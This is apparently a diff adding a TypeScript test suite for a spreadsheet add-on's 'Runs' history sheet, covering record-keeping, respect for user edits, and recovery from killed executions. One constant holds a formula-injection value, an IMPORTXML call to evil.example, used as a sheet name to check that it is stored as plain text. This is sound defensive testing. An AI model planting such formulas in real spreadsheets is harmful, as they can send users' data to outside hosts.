@@ -1,0 +1,97 @@
+/** The sheet “Runs”: every run once, once somebody asked for it, among whatever people add to it. */
+import { writeHistory } from '../../src/sheet/runs/history-sheet';
+import { pump } from '../../src/sheet/runs/pump';
+import { startRun } from '../../src/sheet/runs/start';
+import { undoRun } from '../../src/sheet/runs/undo/undo';
+import { Killed, World } from '../support/memory-platform';
+import { newest, requestFor, runOut, runThrough } from '../support/runs';
+
+const hostile = '=IMPORTXML("https://evil.example","//a")';
+
+function runs(world: World) {
+  const sheet = world.book.sheetByName('Runs');
+  if (!sheet) throw new Error('There is no sheet of runs');
+  return sheet;
+}
+
+describe('the sheet of runs', () => {
+  it('is made on demand, then has every run once as it closes or is undone', () => {
+    const world = World.connected();
+    const sheet = world.book.add(hostile, [['Domain'], ['a.example'], ['unknown.example'], ['x']]);
+    runThrough(world, sheet);
+    expect(world.book.sheetByName('Runs')).toBeUndefined();
+    writeHistory(world.execution());
+    expect(runs(world).cells[1]).toEqual([
+      ...[1, 'Enrich companies', hostile, '2026-11-20 09:00', '2026-11-20 09:00', 'id2'],
+      ...[2, 1, 1, 0, 0, 0, 1, 'done'],
+    ]);
+    sheet.put(5, 1, 'b.example');
+    runThrough(world, sheet);
+    expect(runs(world).column('Run number')).toEqual([1, 2]);
+    undoRun(world.execution(), newest(world).id, 60_000);
+    expect(runs(world).column('State')).toEqual(['done', 'undone']);
+    writeHistory(world.execution());
+    expect(runs(world).column('Run number')).toEqual([1, 2]);
+  });
+
+  it('leaves alone what people made of it, and stays deleted', () => {
+    const world = World.connected();
+    const sheet = world.book.add('S', [['Domain'], ['a.example']]);
+    runThrough(world, sheet);
+    writeHistory(world.execution());
+    const history = runs(world);
+    history.name = 'What we did';
+    history.insertColumn(1);
+    history.put(1, 1, 'For whom');
+    history.put(2, 1, 'Omar');
+    history.insertRows(1, 1);
+    sheet.put(3, 1, 'b.example');
+    runThrough(world, sheet);
+    expect(history.column('For whom', 2)).toEqual(['Omar', '']);
+    expect(history.column('Run number', 2)).toEqual([1, 2]);
+    expect(history.column('Credits', 2)).toEqual([1, 1]);
+    history.put(2, 2, 'Renamed');
+    sheet.put(4, 1, 'c.example');
+    expect(runThrough(world, sheet).state).toBe('done');
+    world.book.remove(history);
+    sheet.put(5, 1, 'd.example');
+    expect(runThrough(world, sheet).state).toBe('done');
+    expect(world.book.sheetByName('Runs')).toBeUndefined();
+    // Somebody's own sheet of that name is not taken.
+    world.book.add('Runs', [['Run', 'Kilometres']]);
+    writeHistory(world.execution());
+    expect(world.book.sheetByName('Runs 2')?.column('Run number')).toEqual([1, 2, 3, 4]);
+  });
+
+  it('has each run once wherever its end was killed', () => {
+    const play = (killAt: number) => {
+      const world = World.connected();
+      const sheet = world.book.add('S', [['Domain'], ['a.example']]);
+      runThrough(world, sheet);
+      writeHistory(world.execution());
+      sheet.put(3, 1, 'b.example');
+      startRun(world.execution(), requestFor(sheet));
+      let at = 0;
+      try {
+        const platform = world.execution((name) => {
+          at += 1;
+          if (at === killAt) throw new Killed(name);
+        });
+        pump(platform, 30_000);
+      } catch (error) {
+        if (!(error instanceof Killed)) throw error;
+      }
+      world.now += 60_000;
+      runOut(world);
+      return { world, points: at };
+    };
+    const { points } = play(0);
+    expect(points).toBeGreaterThan(50);
+    for (let at = 1; at <= points; at += 1) {
+      const { world } = play(at);
+      expect([at, runs(world).column('Run number')]).toEqual([at, [1, 2]]);
+      expect([at, runs(world).column('State')]).toEqual([at, ['done', 'done']]);
+      expect([at, runs(world).column('Credits')]).toEqual([at, [1, 1]]);
+    }
+  });
+});
